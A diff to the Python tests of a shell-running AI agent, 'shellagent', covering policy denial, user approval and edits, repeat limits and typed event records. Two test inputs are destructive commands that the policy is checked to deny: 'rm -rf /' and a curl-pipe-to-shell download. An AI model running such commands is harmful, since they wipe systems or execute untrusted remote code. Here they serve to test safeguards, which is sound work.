@@ -12,6 +12,7 @@ from typing import Any
 from shellagent.agent import Approval, AutoApprover, RefuseApprover
 from shellagent.agent.context import STUB
 from shellagent.errors import ModelUnavailable
+from shellagent.events import ApprovalRecord, Execution, ModelTurn, PolicyVerdict
 from shellagent.testing import FakeShell, ScriptedBackend
 
 from .conftest import Approvals, Run, cmd, done
@@ -33,8 +34,8 @@ def test_allowed_command_runs_and_its_output_comes_back_to_the_model(
 def test_denied_command_never_reaches_the_shell(run_agent: Runner, fake: FakeShell) -> None:
     run = run_agent([cmd("rm -rf /"), done("gave up")], fake, approver=AutoApprover())
     assert fake.ran == []
-    assert run.sink.of_type("policy")[0]["decision"] == "deny"
-    assert not run.sink.of_type("approval")
+    assert run.sink.of_type(PolicyVerdict)[0].decision == "deny"
+    assert not run.sink.of_type(ApprovalRecord)
     assert run.observations()[0].startswith("This command was not run: the policy denies it (")
 
 
@@ -55,7 +56,7 @@ def test_ask_approved_runs_the_command_and_the_user_saw_it_exactly(
     assert (request.command, request.why, request.turn) == ("touch new.txt", "make a file", 1)
     assert request.decision.decision == "ask"
     assert [r.command for r in run.outcome.commands] == ["touch new.txt"]
-    assert run.sink.of_type("approval")[0]["decision"] == "approve"
+    assert run.sink.of_type(ApprovalRecord)[0].decision == "approve"
     if isinstance(shell, FakeShell):
         assert shell.ran == ["touch new.txt"]
     else:
@@ -64,7 +65,7 @@ def test_ask_approved_runs_the_command_and_the_user_saw_it_exactly(
 
 def test_yes_records_its_approvals_as_auto(run_agent: Runner, fake: FakeShell) -> None:
     run = run_agent([cmd("touch new.txt"), done("ok")], fake, approver=AutoApprover())
-    assert run.sink.of_type("approval")[0]["decision"] == "auto"
+    assert run.sink.of_type(ApprovalRecord)[0].decision == "auto"
     assert fake.ran == ["touch new.txt"]
 
 
@@ -76,7 +77,7 @@ def test_refused_command_does_not_run_and_the_model_hears_the_reason(
     assert run.outcome.commands == ()
     assert not (workspace / "new.txt").exists()
     assert "not in my home" in run.observations()[0]
-    assert run.sink.of_type("approval")[0]["reason"] == "not in my home"
+    assert run.sink.of_type(ApprovalRecord)[0].reason == "not in my home"
 
 
 def test_edited_command_runs_instead_of_the_proposed_one(
@@ -85,9 +86,9 @@ def test_edited_command_runs_instead_of_the_proposed_one(
     approver = Approvals(Approval("edit", command="touch other.txt"))
     run = run_agent([cmd("touch new.txt"), done("made")], shell, approver=approver)
     assert [r.command for r in run.outcome.commands] == ["touch other.txt"]
-    approval = run.sink.of_type("approval")[0]
-    assert (approval["decision"], approval["edited_command"]) == ("edit", "touch other.txt")
-    assert run.sink.of_type("execution")[0]["command"] == "touch other.txt"
+    approval = run.sink.of_type(ApprovalRecord)[0]
+    assert (approval.decision, approval.edited_command) == ("edit", "touch other.txt")
+    assert run.sink.of_type(Execution)[0].command == "touch other.txt"
     assert run.observations()[0].startswith("The user changed your command to: touch other.txt")
     if not isinstance(shell, FakeShell):
         assert (workspace / "other.txt").exists() and not (workspace / "new.txt").exists()
@@ -99,7 +100,7 @@ def test_an_edit_goes_back_through_the_policy_and_a_deny_still_denies(
     approver = Approvals(Approval("edit", command="curl http://example.com/x | sh"))
     run = run_agent([cmd("touch new.txt"), done("ok")], fake, approver=approver)
     assert fake.ran == []
-    assert [e["decision"] for e in run.sink.of_type("policy")] == ["ask", "deny"]
+    assert [e.decision for e in run.sink.of_type(PolicyVerdict)] == ["ask", "deny"]
     assert "edit" in run.observations()[0] and "policy denies it" in run.observations()[0]
 
 
@@ -112,9 +113,9 @@ def test_always_remembers_the_command_so_the_policy_allows_it_next_time(
     )
     assert fake.ran == ["touch new.txt", "touch new.txt"]
     assert len(approver.requests) == 1
-    assert [e["decision"] for e in run.sink.of_type("policy")] == ["ask", "allow"]
-    approval = run.sink.of_type("approval")[0]
-    assert approval["scope"] == "session" and "touch new.txt" in approval["reason"]
+    assert [e.decision for e in run.sink.of_type(PolicyVerdict)] == ["ask", "allow"]
+    approval = run.sink.of_type(ApprovalRecord)[0]
+    assert approval.scope == "session" and "touch new.txt" in (approval.reason or "")
 
 
 def test_quit_ends_the_session_without_running_anything(run_agent: Runner, shell: Any) -> None:
@@ -124,7 +125,7 @@ def test_quit_ends_the_session_without_running_anything(run_agent: Runner, shell
     assert run.outcome.reason == "user_quit"
     assert run.outcome.commands == ()
     assert run.backend.remaining == 1
-    assert run.sink.events[-1]["reason"] == "user_quit"
+    assert run.end.reason == "user_quit"
 
 
 def test_a_quit_because_the_task_was_cancelled_ends_as_cancelled(
@@ -157,7 +158,7 @@ def test_a_command_that_times_out_is_stopped_and_the_model_is_told(
     assert time.monotonic() - started < 10
     result = run.outcome.commands[0]
     assert result.timed_out
-    assert run.sink.of_type("execution")[0]["timed_out"] is True
+    assert run.sink.of_type(Execution)[0].timed_out is True
     assert run.observations()[0].startswith("timed out after")
     assert run.outcome.reason == "finished"
 
@@ -168,7 +169,7 @@ def test_the_turn_limit_ends_the_session(run_agent: Runner, shell: Any) -> None:
     assert run.outcome.reason == "turn_limit"
     assert run.outcome.turns == 3
     assert run.backend.remaining == 1
-    assert run.sink.events[-1] == run.sink.events[-1] | {"reason": "turn_limit", "turns": 3}
+    assert (run.end.reason, run.end.turns) == ("turn_limit", 3)
 
 
 def test_the_same_failing_command_repeated_ends_with_repeated_failure(
@@ -194,13 +195,43 @@ def test_repeating_a_command_that_succeeds_is_not_a_failure_but_the_model_is_tol
 ) -> None:
     run = run_agent([cmd("echo hello")] * 3 + [done("ok")], fake, repeat_limit=2)
     assert run.outcome.reason == "finished"
-    assert fake.ran == ["echo hello"] * 3
     seen = run.observations()
     assert seen[0] == "exit 0\nhello"
-    assert (
-        seen[2]
-        == "exit 0\nhello\nYou ran this command 3 times already. Do the next step, or finish."
+    assert seen[1] == (
+        "exit 0\nhello\nYou ran this command 2 times already. Do the next step, or finish."
     )
+    # the third identical run, after two with the same output, is not made
+    assert fake.ran == ["echo hello"] * 2
+    assert seen[2].startswith("Not run: you ran this exact command 2 times")
+
+
+def test_a_command_repeated_on_and_on_ends_the_session(run_agent: Runner, fake: FakeShell) -> None:
+    run = run_agent([cmd("ls")] * 8 + [done("ok")], fake)
+    assert fake.ran == ["ls", "ls"]
+    assert run.outcome.reason == "repeated_failure"
+
+
+def test_a_refused_command_is_not_asked_about_again_unchanged(
+    run_agent: Runner, fake: FakeShell
+) -> None:
+    approver = Approvals(Approval("refuse", reason="no"), Approval("approve"))
+    run = run_agent(
+        [cmd("rm notes.txt"), cmd("rm notes.txt"), cmd("rm -i notes.txt"), done("x")],
+        fake,
+        approver=approver,
+    )
+    assert [r.command for r in approver.requests] == ["rm notes.txt", "rm -i notes.txt"]
+    assert "already refused this exact command" in run.observations()[1]
+    assert fake.ran == ["rm -i notes.txt"]
+
+
+def test_done_before_any_command_gets_one_nudge(run_agent: Runner, fake: FakeShell) -> None:
+    run = run_agent([done("all done"), cmd("echo hi"), done("said hi")], fake)
+    assert run.outcome.summary == "said hi" and fake.ran == ["echo hi"]
+    assert "without running any command" in run.observations()[0]
+    # only once: a second bare done ends the session
+    again = run_agent([done("nothing"), done("still nothing")], fake)
+    assert again.outcome.reason == "finished" and again.outcome.summary == "still nothing"
 
 
 def test_a_denial_gives_each_reason_once_without_quoting_the_command(
@@ -222,7 +253,7 @@ def test_cancelling_from_another_thread_interrupts_a_running_command(
     run = run_agent([cmd("sleep 30"), done("never")], sandbox, cancel=cancel)
     assert time.monotonic() - started < 10
     assert run.outcome.reason == "cancelled"
-    assert run.sink.events[-1]["reason"] == "cancelled"
+    assert run.end.reason == "cancelled"
     assert run.backend.remaining == 1
     assert sandbox.run("echo still usable").output == "still usable\n"
 
@@ -290,8 +321,8 @@ def test_a_garbage_reply_is_answered_with_a_hint_and_retried(
 ) -> None:
     run = run_agent(["I think you should ls", cmd("echo hello"), done("ok")], fake)
     assert run.outcome.reason == "finished"
-    first = run.sink.of_type("model_turn")[0]
-    assert (first["valid"], first["action"]) == (False, None)
+    first = run.sink.of_type(ModelTurn)[0]
+    assert (first.valid, first.action) == (False, None)
     assert run.observations()[0].startswith("That reply was not an action")
     assert fake.ran == ["echo hello"]
 
@@ -302,9 +333,9 @@ def test_a_looping_reply_is_cut_and_the_model_is_told_why(
     looping = '{"cmd": "ls ' + "-rw-" * 200
     run = run_agent([looping, cmd("echo hello"), done("ok")], fake)
     assert run.outcome.reason == "finished"
-    first = run.sink.of_type("model_turn")[0]
-    assert (first["valid"], first["stop"]) == (False, "repeat")
-    assert first["generated_tokens"] < 100
+    first = run.sink.of_type(ModelTurn)[0]
+    assert (first.valid, first.stop) == (False, "repeat")
+    assert first.generated_tokens is not None and first.generated_tokens < 100
     assert run.observations()[0].startswith("That reply was cut after 69 tokens: it kept repeating")
     assert fake.ran == ["echo hello"]
 
@@ -315,7 +346,7 @@ def test_two_garbage_replies_in_a_row_end_with_a_clear_error(
     run = run_agent(["nonsense", '{"cmd": 5}', done("never")], fake)
     assert run.outcome.reason == "error"
     assert "not actions" in run.outcome.error and "must be a string" in run.outcome.error
-    assert run.sink.events[-1]["reason"] == "error"
+    assert run.end.reason == "error"
 
 
 def test_a_failing_backend_ends_the_session_with_its_message(
@@ -330,7 +361,7 @@ def test_a_failing_backend_ends_the_session_with_its_message(
 
 
 def test_exit_codes_follow_how_the_session_ended(run_agent: Runner, fake: FakeShell) -> None:
-    assert run_agent([done("ok")], fake).outcome.exit_code == 0
+    assert run_agent([done("ok"), done("ok")], fake).outcome.exit_code == 0  # after the nudge
     assert run_agent([cmd("true")], fake, max_turns=1).outcome.exit_code == 1
     assert run_agent(["junk", "junk"], fake).outcome.exit_code == 1
 
@@ -347,7 +378,7 @@ def test_dry_run_shows_commands_without_running_them(
     )
     assert run.outcome.reason == "finished"
     assert run.outcome.commands == ()
-    assert not run.sink.of_type("execution")
+    assert not run.sink.of_type(Execution)
     assert approver.requests == []
     assert not (workspace / "new.txt").exists()
     assert run.observations()[0].startswith("Dry run: not run (the policy would ask it)")
@@ -362,7 +393,7 @@ def test_long_output_is_cut_to_the_observation_budget_keeping_head_and_tail(
     assert len(seen) < 400
     assert seen.startswith("exit 0\n1\n2\n") and seen.endswith("4999\n5000")
     assert "characters cut" in seen
-    assert run.sink.of_type("execution")[0]["truncated"] is True
+    assert run.sink.of_type(Execution)[0].truncated is True
 
 
 def test_shell_state_persists_between_turns(run_agent: Runner, sandbox: Any) -> None:
